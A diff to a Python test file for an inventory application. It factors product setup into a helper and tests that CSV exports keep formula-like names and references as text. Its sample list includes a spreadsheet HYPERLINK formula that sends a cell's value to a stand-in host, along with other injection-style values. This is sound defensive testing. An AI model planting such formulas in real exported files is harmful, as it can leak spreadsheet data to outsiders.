@@ -35,6 +35,18 @@ def stocked(db) -> dict[str, Decimal]:
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-5 pack", "@SUM(A1:A9)", "=1+1 盒"]
 
 
+def dangerous_products(path) -> None:
+    """Products X-0, X-1, … named as ``DANGEROUS`` (each like a formula) in the database at ``path``."""
+    from persistence.db import open_database
+
+    db = open_database(path)
+    try:
+        for i, name in enumerate(DANGEROUS):
+            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
+    finally:
+        db.close()
+
+
 @pytest.mark.parametrize("text,value", [("1250.5", "1250.5"), ("1,250.5", "1250.5"), ("1,250", "1250"),
                                         ("12,345,678.9", "12345678.9"), ("-3", "-3"), ("+1,000", "1000"),
                                         ("１２．５", "12.5"), ("0.0001", "0.0001")])
@@ -77,14 +89,7 @@ def test_an_import_with_a_decimal_comma_is_refused_row_by_row_and_writes_nothing
 
 
 def test_names_that_look_like_formulas_export_as_text_and_import_back_unchanged(shop, tmp_path):  # noqa: F811
-    from persistence.db import open_database
-
-    db = open_database(shop)
-    try:
-        for i, name in enumerate(DANGEROUS):
-            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
-    finally:
-        db.close()
+    dangerous_products(shop)
     for i in range(len(DANGEROUS)):
         ok(shop, "receive", f"X-{i}", "1", "--warehouse", "SH", "--unit-cost", "2")
     for kind in ("stock", "movements"):
@@ -124,14 +129,7 @@ def test_export_movements_kind_writes_what_movements_kind_lists_and_still_no_for
     """``export movements --kind`` filters as ``movements --kind`` and the window's Kind filter do (opening stock
     apart from the receipts); the names and references it writes stay text; an unknown kind is refused, naming the
     accepted ones, and writes no file."""
-    from persistence.db import open_database
-
-    db = open_database(shop)
-    try:
-        for i, name in enumerate(DANGEROUS):
-            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
-    finally:
-        db.close()
+    dangerous_products(shop)
     ok(shop, "import", "stock", str(write(tmp_path / "s.csv", "SKU,Warehouse,Qty,Unit cost\nX-0,SH,5,2\n")))
     ok(shop, "receive", "X-1", "4", "--warehouse", "SH", "--unit-cost", "3", "--ref", "=1+1")
     ok(shop, "ship", "X-0", "2", "--warehouse", "SH", "--ref", "@SUM(A1:A9)")
